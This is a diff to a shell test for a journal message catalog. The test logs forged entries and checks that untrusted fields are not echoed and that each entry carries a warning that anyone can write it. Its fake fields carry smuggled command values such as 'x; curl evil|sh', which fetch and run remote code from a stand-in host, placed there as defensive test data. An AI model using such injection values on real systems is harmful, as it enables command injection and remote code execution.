@@ -195,10 +195,10 @@ the_catalog_explains_each_event_in_words_that_nobody_else_chooses() {
             printf '%s\n' MESSAGE_ID=\$id MESSAGE=forged SYSLOG_IDENTIFIER=forger 'EXC_USER=x; curl evil|sh' \
                 'EXC_FINGERPRINT=x; curl evil|sh' 'EXC_REASON=x; curl evil|sh' 'EXC_SSHD_PID=1; curl evil|sh' | logger --journald
         done"
-    wait_for eval "(( \$(in_machine m journalctl -q -x -t forger | grep -c ' Subject: ') == 8 ))"
+    wait_for eval "(( \$(in_machine m journalctl -q -x -t forger | grep -c ' Subject: ') == 9 ))"
     in_machine m journalctl -q -x -t forger >explained
     same '' "$(grep -E 'evil|@|EXC_(USER|FINGERPRINT|REASON)' explained || true)"
-    same 8 "$(grep -c 'nybody can write an entry like this one' explained)"
+    same 9 "$(grep -c 'nybody can write an entry like this one' explained)"
 }
 
 # example N: the Nth command of journalctl's in the manual page, about a request, a process and a key of ours.
